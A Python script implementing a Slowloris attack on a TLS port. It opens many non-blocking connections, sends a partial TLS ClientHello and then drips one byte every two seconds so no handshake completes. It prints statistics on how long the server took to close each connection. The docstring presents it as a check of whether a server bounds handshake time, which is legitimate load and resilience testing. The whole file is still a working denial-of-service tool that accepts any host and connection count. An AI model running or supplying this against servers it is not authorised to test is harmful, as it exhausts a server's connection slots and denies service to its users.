#!/usr/bin/env python3
"""Slowloris against a TLS port: N TCP connections that each start a TLS ClientHello and then
send one more byte every couple of seconds, never finishing it.

All N connects are started at once (non-blocking) and one epoll loop completes them, drips
bytes and notices the server's closes, so every connection is watched from the moment it opens.
Runs until the server has closed all of them or HOLD seconds pass, and prints one line:
  opened=N failed_to_open=F closed_by_server=C peak_open=P min_life_s=A max_life_s=B open_s=O still_open=S
where a life runs from the client's connect to the server's close, peak_open is the most
connections open at the same time and open_s how long opening all of them took. A server that
bounds its handshakes closes every connection about its deadline after it opened; one that
does not leaves them open.

usage: slowloris.py HOST PORT N HOLD_SECONDS
"""
import errno
import selectors
import socket
import sys
import time

# A TLS 1.2 handshake record header announcing a 512-byte ClientHello, then its first bytes.
RECORD_START = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])
FIRST = 3
DRIP_SECONDS = 2.0
CONNECT_SECONDS = 15.0


def main(host, port, count, hold_seconds):
    began = time.monotonic()
    selector = selectors.EpollSelector()
    connecting = {}  # socket -> connect started at
    open_ = {}  # socket -> [opened at, bytes sent]
    failed = 0
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        code = sock.connect_ex((host, port))
        if code not in (0, errno.EINPROGRESS):
            sock.close()
            failed += 1
            continue
        connecting[sock] = time.monotonic()
        selector.register(sock, selectors.EVENT_WRITE)
    lives = []
    peak = 0
    opened = 0
    last_open = began
    deadline = began + hold_seconds
    next_drip = began + DRIP_SECONDS
    while (connecting or open_) and time.monotonic() < deadline:
        events = selector.select(timeout=0.2)
        now = time.monotonic()
        for key, _ in events:
            sock = key.fileobj
            if sock in connecting:
                del connecting[sock]
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                    selector.unregister(sock)
                    sock.close()
                    failed += 1
                    continue
                sock.send(RECORD_START[:FIRST])
                open_[sock] = [now, FIRST]
                opened += 1
                last_open = now
                peak = max(peak, len(open_))
                selector.modify(sock, selectors.EVENT_READ)
                continue
            try:
                data = sock.recv(1024)
            except BlockingIOError:
                continue
            except OSError:  # reset by the server
                data = b""
            if not data:
                lives.append(now - open_.pop(sock)[0])
                selector.unregister(sock)
                sock.close()
        for sock, started in list(connecting.items()):
            if now - started > CONNECT_SECONDS:
                del connecting[sock]
                selector.unregister(sock)
                sock.close()
                failed += 1
        if now >= next_drip:
            next_drip += DRIP_SECONDS
            for sock, state in open_.items():
                byte = RECORD_START[state[1]:state[1] + 1] or b"\x00"  # more of the hello
                try:
                    sock.send(byte)
                    state[1] += 1
                except OSError:
                    pass  # the close shows up as a read event
    for sock in list(open_) + list(connecting):
        sock.close()
    print(f"opened={opened} failed_to_open={failed} closed_by_server={len(lives)} peak_open={peak} "
          f"min_life_s={min(lives, default=-1):.1f} max_life_s={max(lives, default=-1):.1f} "
          f"open_s={last_open - began:.1f} still_open={len(open_)}", flush=True)


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]))
